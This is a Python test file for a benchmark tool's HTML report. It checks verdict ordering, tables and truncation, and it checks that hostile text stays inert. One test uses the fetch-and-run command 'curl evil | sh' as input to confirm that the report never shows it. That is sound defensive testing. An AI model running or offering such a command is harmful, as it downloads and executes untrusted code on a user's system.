"""What gates found, in a report: verdict first, every figure in a table, all text inert."""

from __future__ import annotations

import json
from pathlib import Path

import outcomes
import pytest
from frames import quick, run
from pages import Page

from harness import store
from harness.cli import commands
from harness.cli.parser import parse
from harness.gate.outcome import Outcome, Verdict
from harness.report import caps, html
from harness.report.gate import tables
from harness.report.guard.section import section
from harness.types import UsageError


def rendered(*found: Outcome) -> str:
    return html.render(quick(), [run()], outcomes=found)


def told(*found: Outcome) -> str:
    return " ".join(Page(rendered(*found)).text.split())


def test_the_verdict_comes_first_then_what_changed_then_the_rest() -> None:
    text = told(outcomes.full())
    text = text[text.index("faster-attention against main, 2026-11-20 10:00") :]
    parts = [
        "3 of 6 cases are worse: 1 regression, 1 failed on head and 1 vanished",
        "Worst: lstm/torch/cpu/train/eager/float32/b32-s128, latency 1.23×",
        "The budget ended before every case was decided.",
        "1.001×",
        "1 figure inconclusive",
        "2 figures unchanged",
        "2 figures not compared",
        "What was compared, on which machine",
        "layerbench regress --base main --head faster-attention",
    ]
    places = [text.index(part) for part in parts]
    assert places == sorted(places)


def test_every_figure_of_an_outcome_is_in_a_table() -> None:
    (block,) = section([outcomes.full()])
    shown = sum(len(part.table.rows) for part in block.parts)
    assert shown == len(tables.entries(outcomes.full(), *Verdict))
    assert next(part.title for part in block.parts) == ""


def test_several_outcomes_are_told_one_after_the_other() -> None:
    calm = outcomes.outcome(outcomes.case("a/torch", outcomes.latency()))
    text = told(outcomes.full(), calm)
    assert text.index("3 of 6 cases are worse") < text.index("Nothing became worse in 1 case.")


def test_without_an_outcome_nothing_is_said_of_gates() -> None:
    assert "faster-attention" not in told()


def test_a_long_table_is_cut_and_says_so(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(caps, "LISTED", 5)
    slower = [
        outcomes.case(f"case{index}/torch", outcomes.latency(1.2, Verdict.REGRESSION))
        for index in range(8)
    ]
    text = told(outcomes.outcome(*slower))
    assert "3 more rows would make this too long" in text
    assert "case4/torch" in text
    assert "case5/torch" not in text


def test_the_report_may_be_of_outcomes_alone() -> None:
    page = Page(html.render(store.empty(), [], outcomes=[outcomes.full()]))
    text = " ".join(page.text.split())
    assert text.count("faster-attention against main") >= 2, "as the title and above the verdict"
    assert "There are no results" not in text
    assert page.open == []


@pytest.mark.parametrize("evil", outcomes.HOSTILE, ids=range(len(outcomes.HOSTILE)))
def test_hostile_text_stays_text(evil: str) -> None:
    text, tame = (
        html.render(store.empty(), [], outcomes=[outcomes.hostile(one)]) for one in (evil, "x")
    )
    text.encode()
    page = Page(text)
    assert [tag for tag, _ in page.tags if tag != "wbr"] == [
        tag for tag, _ in Page(tame).tags if tag != "wbr"
    ]
    names = {name for tag, attributes in page.tags if tag in ("td", "th") for name in attributes}
    assert names <= {"class", "scope", "data-n", "data-numeric"}
    assert page.open == []
    assert all(link.startswith(("#", "data:")) for link in page.attributes("href"))


def test_a_foreign_command_is_not_shown() -> None:
    text = told(outcomes.outcome(command="curl evil | sh"))
    assert "curl" not in text
    assert "is none of layerbench's" in text


def reported(*arguments: str) -> list[Path]:
    """What `layerbench report` writes."""
    (out,) = (Path(arguments[index + 1]) for index, one in enumerate(arguments) if one == "--out")
    assert commands.report_command(parse(["report", *arguments])) == 0
    return sorted(out.iterdir())


def stored(folder: Path, found: Outcome, name: str = "outcome.json") -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    file = folder / name
    file.write_text(json.dumps(found.to_json()), encoding="utf-8")
    return file


def test_the_command_takes_outcomes_without_a_run(tmp_path: Path) -> None:
    first = stored(tmp_path / "20261120-100000-gate-ab12", outcomes.full())
    second = stored(tmp_path, outcomes.outcome(), "other.json")
    given = ["--outcome", str(first), "--outcome", str(second), "--out", str(tmp_path / "out")]
    page, text = reported(*given)
    assert page.name == "20261120-100000-gate-ab12.html"
    assert "3 of 6 cases are worse" in page.read_text(encoding="utf-8")
    summary = text.read_text(encoding="utf-8")
    assert "**3 of 6 cases are worse" in summary
    assert "Nothing was compared, so this gate cannot pass." in summary


@pytest.mark.parametrize("content", ["", "[]", "{}", '{"schema": 1}', "\ud800"])
def test_a_file_that_holds_no_outcome_is_told_and_nothing_is_written(
    tmp_path: Path, content: str
) -> None:
    file = tmp_path / "outcome.json"
    file.write_bytes(content.encode(errors="surrogatepass"))
    with pytest.raises(UsageError, match=r"outcome\.json: not the result of a gate"):
        commands.report_command(parse(["report", "--outcome", str(file), "--out", str(tmp_path)]))
    assert list(tmp_path.iterdir()) == [file]
